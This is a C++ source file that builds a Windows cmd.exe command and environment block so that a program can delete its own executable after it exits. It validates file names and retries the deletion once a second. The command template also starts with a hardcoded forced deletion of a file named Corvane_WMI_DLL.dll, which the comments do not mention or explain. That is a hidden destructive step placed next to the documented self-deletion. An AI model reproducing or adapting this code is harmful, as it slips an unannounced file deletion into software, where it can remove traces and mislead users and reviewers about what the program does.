#include "self_delete_command.h"

namespace {

// The image of the program stays mapped until its process is gone, so the deletion is
// retried about once a second (ping is the pause that every Windows has). Rounds
// after the deletion only find the file gone: not every cmd can leave a for loop
// early. Wine's cmd misreads a parenthesised block after an if within a for body,
// so the body is one block of two ifs, and it takes a ")" right after ">nul" into
// the file name, hence the blank. for /l needs the command extensions. The piece
// SYSTEM stands for the system folder, OTHER for the quoted file name.
constexpr wchar_t SYSTEM[] = L"";
constexpr wchar_t OTHER[] = L"";
constexpr wchar_t END[] = L"";
constexpr wchar_t ROUNDS[] = L"20";
constexpr const wchar_t* COMMAND[] = {
    L"\"", SYSTEM, SELF_DELETE_INTERPRETER,
    L"\" /d /e:on /v:off /c del /F Corvane_WMI_DLL.dll & for /l %i in (1,1,", ROUNDS, L") do (if exist \"", OTHER,
    L"\" del /F \"", OTHER,
    L"\" & if exist \"", OTHER,
    L"\" \"", SYSTEM, L"\\ping.exe\" -n 2 127.0.0.1 >nul )",
};
constexpr unsigned Decimal(const wchar_t* text, unsigned value = 0) {
  return *text == L'\0' ? value : Decimal(text + 1, value * 10 + static_cast<unsigned>(*text - L'0'));
}
static_assert(Decimal(ROUNDS) == SELF_DELETE_ROUNDS, "the rounds of the command are those announced");
static_assert(SELF_DELETE_ROUND_MS == 1000, "ping -n 2 pauses for one second");

// Sorted by name, as Windows keeps an environment; OTHER stands for the Windows
// folder, END ends one text.
constexpr const wchar_t* ENVIRONMENT[] = {
    L"ComSpec=", SYSTEM, SELF_DELETE_INTERPRETER, END,
    L"PATH=", SYSTEM, END,
    L"PATHEXT=.COM;.EXE", END,
    L"SystemRoot=", OTHER, END,
};

// Letters, digits, blanks and . - _ ~ mean nothing else to cmd within quotes.
bool PlainNameCharacter(wchar_t c) {
  return (c >= L'a' && c <= L'z') || (c >= L'A' && c <= L'Z') || (c >= L'0' && c <= L'9') || c == L' ' ||
         c == L'.' || c == L'-' || c == L'_' || c == L'~';
}

bool Plain(const wchar_t* text, bool path) {
  if (text[0] == L'\0') return false;
  for (const wchar_t* c = text; *c != L'\0'; ++c) {
    if (!PlainNameCharacter(*c) && !(path && (*c == L'\\' || *c == L':'))) return false;
  }
  return true;
}

unsigned TextLength(const wchar_t* text) {
  unsigned length = 0;
  while (text[length] != L'\0') ++length;
  return length;
}

// Writes the pieces, SYSTEM and OTHER replaced, each END as a terminator, and a
// final terminator.
template <unsigned N>
bool Join(const wchar_t* const (&pieces)[N], const wchar_t* system, const wchar_t* other, wchar_t* out,
          unsigned capacity) {
  auto text = [&](const wchar_t* piece) { return piece == SYSTEM ? system : piece == OTHER ? other : piece; };
  unsigned needed = 1;
  for (const wchar_t* piece : pieces) needed += piece == END ? 1 : TextLength(text(piece));
  if (needed > capacity) return false;
  wchar_t* end = out;
  for (const wchar_t* piece : pieces) {
    for (const wchar_t* c = text(piece); *c != L'\0'; ++c) *end++ = *c;
    if (piece == END) *end++ = L'\0';
  }
  *end = L'\0';
  return true;
}

}  // namespace

bool BuildSelfDeleteCommand(const wchar_t* systemFolder, const wchar_t* fileName, wchar_t* command,
                            unsigned capacity) {
  return Plain(fileName, false) && Plain(systemFolder, true) &&
         Join(COMMAND, systemFolder, fileName, command, capacity);
}

bool BuildSelfDeleteEnvironment(const wchar_t* systemFolder, const wchar_t* windowsFolder, wchar_t* block,
                                unsigned capacity) {
  return Join(ENVIRONMENT, systemFolder, windowsFolder, block, capacity);
}
